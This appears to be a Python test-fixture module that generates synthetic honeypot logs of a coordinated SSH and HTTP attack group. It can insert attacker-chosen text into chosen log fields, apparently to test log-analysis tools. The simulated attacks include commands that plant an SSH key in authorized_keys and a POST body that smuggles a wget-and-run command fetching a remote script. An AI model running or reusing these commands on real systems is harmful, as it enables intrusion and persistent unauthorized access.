"""attacks.py - small logs of one coordinated group in a background, with a text of the attacker's in a place of choice."""
import base64
import hashlib
import json

from support import background, cowrie_session, ndjson, stamp

KEY = "ssh-rsa+" + base64.b64encode(b"\0\0\0\x07ssh-rsa\0\0\0\x03\1\0\1\0\0\1\1\0" + b"".join(hashlib.sha256(bytes([k])).digest() for k in range(8))).decode()
SOURCES, VISITS = 12, 4


def members():
    """(name, source, second) of every session of the group."""
    for visit in range(VISITS):
        for i in range(SOURCES):
            yield f"gg{visit:02d}{i:08d}", f"203.0.113.{i * 3 + 1}" if i % 2 else f"198.51.100.{i * 5 + 2}", 18000 * (visit + 1) + i * 7


def ssh_log(place=None, text=""):
    events = background(60)
    for name, source, second in members():
        users = [("svc", f"Xk9!{k}") for k in range(3)] + ([(text, text)] if place == "credential" else [])
        lines = ["cd /tmp", f"echo {KEY.replace('+', ' ', 1)} x >> ~/.ssh/authorized_keys", "nproc"] + ([text] if place == "command" else [])
        session = cowrie_session(name, source, second, users, lines)
        if place == "client":
            session[1]["version"] = "SSH-2.0-" + text
        session.insert(-1, {**{k: session[0][k] for k in ("session", "src_ip", "sensor")}, "eventid": "cowrie.session.file_download", "outfile": "x",
                            "timestamp": session[-1]["timestamp"], "url": text if place == "url" else "http://192.0.2.77/x.sh",
                            "shasum": "a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2"})
        events += session
    return ndjson(events)


def http_request(source, second, method, path, agent, data=""):
    return {"time": stamp(second)[:-1], "headers": {"Host": "192.0.2.10:8080", "User-Agent": agent}, "sip": source, "dip": "192.0.2.10", "method": method,
            "url": path, "data": data, "useragent": agent, "version": "HTTP/1.1", "response_id": 1, "signature_id": None}


def http_log(place=None, text=""):
    data = f"cmd=wget+http://192.0.2.78/a.sh;sh+a.sh;echo+{KEY}+x>>/root/.ssh/authorized_keys"
    requests = [http_request(f"198.18.{k % 9}.{k % 250 + 1}", k * 7919 % 86400, "GET", ["/", "/robots.txt", "/.env"][k % 3], "curl/7") for k in range(100)]
    for _, source, second in members():
        for path in ("/boaform/admin/formLogin", "/cgi-bin/zz9?x=1", text if place == "path" else "/qqzz/setup.cgi"):
            requests.append(http_request(source, second, "POST", path, text if place == "agent" else "Mozilla/5.0 zz9", data))
    return b"".join(json.dumps(r).encode() + b"\n" for r in requests)


def log_with(place, text):
    return http_log(place, text) if place in ("agent", "path") else ssh_log(place, text)
